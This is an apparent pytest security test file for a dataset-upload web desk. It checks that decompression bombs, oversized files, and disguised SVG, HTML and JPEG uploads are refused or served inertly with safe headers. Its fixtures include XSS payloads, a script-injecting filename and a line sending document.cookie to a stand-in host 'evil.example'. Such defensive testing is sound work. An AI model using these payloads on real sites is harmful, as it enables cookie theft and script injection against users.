"""What attackers hand in, to a desk that runs as it does elsewhere: answered, and never run.

Pages and worker are processes of their own. Files come over the line, by the form that needs no
script and in pieces as the script sends them. What is told of the pages' memory is the most that
their process and all it started have ever held, beyond that of the first two files.
"""

import io
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from tests.desk.conftest import as_asked
from tests.desk.outside import Outside, Person, run_outside
from tests.hostile.bomb import BOMBS, STOP
from tests.hostile.handed_in import MADE_BY

OFFICE = "Desa Rejo"
SECONDS_MOST, GROWN_MOST_KB, TAKEN_MOST = 60, 50 << 10, 100_000_000
WAYS = ("by_form", "in_pieces")
# No upload is a pipe, a device or a folder; and an empty one is refused by the form.
_NO_UPLOADS = {"pipe.csv", "device.csv", "folder.csv", "changes.csv", "empty.csv"}
_SLICE = ("zip-of-zeros.zip", "billion-laughs.xlsx", "nul.csv", "one-cell.csv", "calls-out.xlsx")
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"

assert MADE_BY  # by whose import the list is filled

pytestmark = pytest.mark.timeout(300)


@dataclass
class Attacked:
    """A desk, a clerk whose password an attacker has, and what its processes held before."""

    outside: Outside
    clerk: Person
    pages_kb: int

    def grown_kb(self) -> int:
        return self.outside.pages_held_kb() - self.pages_kb


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    plain = tmp_path_factory.mktemp("plain") / "plain.csv"
    plain.write_bytes(b"village,households\nRejo,412\n")
    for desk in as_asked(tmp_path_factory):
        with run_outside(desk) as outside:
            code = desk.invite("sari", "publisher", OFFICE)
            clerk = outside.person().begin("sari", code)
            for way in WAYS:
                answered(clerk, plain, plain.name, way)
            yield Attacked(outside, clerk, outside.pages_held_kb())


def answered(clerk: Person, path: Path, name: str, way: str) -> dict[str, Any]:
    """Hand a file in, wait until it is answered, and look at its page."""
    from pendopo.desk.models import Stage, Submission

    _wait_for_the_worker()
    began = time.monotonic()
    sent = getattr(clerk, way)(path, name, register="datasets", office=OFFICE)
    assert sent.status == 302, sent.text
    number = int(sent.to.split("/")[-2])
    while Submission.objects.get(pk=number).stage == Stage.CHECKING:
        assert time.monotonic() - began < 2 * SECONDS_MOST
        time.sleep(0.1)
    page = clerk.get(sent.to)
    took, one = time.monotonic() - began, Submission.objects.get(pk=number)
    assert one.version
    return {
        "took": took,
        "status": page.status,
        "page": page.text,
        "stage": one.stage,
        "findings": (one.version.report or {}).get("findings", []),
        "file": f"{sent.to}versions/1/",
    }


def _wait_for_the_worker() -> None:
    """Wait until nobody else's file, and no preview, is in the way."""
    from pendopo.desk.models import Job

    while Job.objects.filter(ended_at=None, cancelled=False).exists():
        time.sleep(0.1)


def hold_answered(attacked: Attacked, found: dict[str, Any], outcome: str) -> None:
    assert found["status"] == 200
    assert found["took"] < SECONDS_MOST
    assert found["stage"] == ("mending" if outcome == STOP else found["stage"])
    assert found["findings"]
    assert "alert(1)" not in found["page"].replace("&lt;", "")
    hold_well(attacked)


def hold_well(attacked: Attacked) -> None:
    """Hold pages, worker and signer to be there, and the pages not to have grown."""
    health = attacked.outside.health()
    assert (health.status, health.text.split("\n")[0]) == (200, "ok")
    assert attacked.grown_kb() < GROWN_MOST_KB


def hold_refused(attacked: Attacked, path: Path, name: str) -> None:
    """Hold a file to be refused at once, in words, by both ways, and nothing kept of it."""
    from pendopo.desk.models import Submission, Upload

    before = (Submission.objects.count(), Upload.objects.count())
    for way in WAYS:
        began = time.monotonic()
        answer = getattr(attacked.clerk, way)(path, name, register="datasets", office=OFFICE)
        took = time.monotonic() - began
        assert answer.status in {413, 200}  # of a few bytes too much the form is read
        assert "The file is larger than this desk takes: 100 MB at most." in answer.text
        assert "Split the table into smaller files" in answer.text
        assert took < 5
    assert (Submission.objects.count(), Upload.objects.count()) == before
    hold_well(attacked)


@pytest.mark.parametrize("name", _SLICE)
def test_a_bomb_is_answered_by_a_finding(attacked: Attacked, name: str, tmp_path: Path):
    BOMBS[name].make(tmp_path / name, full=False)
    way = WAYS[_SLICE.index(name) % 2]

    found = answered(attacked.clerk, tmp_path / name, name, way)

    hold_answered(attacked, found, BOMBS[name].outcome)


def test_what_is_larger_than_the_desk_takes_is_refused_in_words_by_both_ways(
    attacked: Attacked, tmp_path: Path
):
    with (tmp_path / "large.csv").open("wb") as file:
        file.truncate(TAKEN_MOST + 1_000_000)

    hold_refused(attacked, tmp_path / "large.csv", "large.csv")


@pytest.mark.campaign
@pytest.mark.timeout(3600)
@pytest.mark.parametrize("name", [one for one in BOMBS if one not in _NO_UPLOADS])
def test_each_bomb_is_answered_at_its_largest_too(attacked: Attacked, name: str, tmp_path: Path):
    path = tmp_path / name
    BOMBS[name].make(path, full=True)
    way = WAYS[list(BOMBS).index(name) % 2]

    if path.stat().st_size > TAKEN_MOST:
        hold_refused(attacked, path, name)
    else:
        found = answered(attacked.clerk, path, name, way)
        hold_answered(attacked, found, BOMBS[name].outcome)
    path.unlink()


def photo() -> bytes:
    """A photo that says where it was taken (Exif, GPS)."""
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 47.0, 43.4), 3: "E", 4: (110.0, 22.0, 9.6)})
    exif[0x010F] = "<script>alert(1)</script>"
    kept = io.BytesIO()
    Image.new("RGB", (8, 8)).save(kept, "JPEG", exif=exif)
    return kept.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("picture.svg", SVG),
        ("picture.xlsx", SVG),
        ("page.html", HTML),
        ('"><script>alert(1)</script>.csv', HTML),
        ("photo.jpg", photo()),
        ("photo.csv", photo()),
    ],
    ids=["svg", "svg as a workbook", "page", "name", "photo", "photo as a table"],
)
def test_what_is_no_table_is_stopped_and_given_back_as_bytes_alone(
    attacked: Attacked, name: str, content: bytes, tmp_path: Path
):
    (tmp_path / "file").write_bytes(content)

    found = answered(attacked.clerk, tmp_path / "file", name, "by_form")
    file = attacked.clerk.get(found["file"])

    hold_answered(attacked, found, STOP)
    assert file.body == content
    assert file.headers["Content-Type"] == "application/octet-stream"
    assert file.headers["Content-Disposition"].startswith("attachment")
    assert file.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert file.headers["X-Content-Type-Options"] == "nosniff"
    assert file.headers["Cross-Origin-Resource-Policy"] == "same-origin"
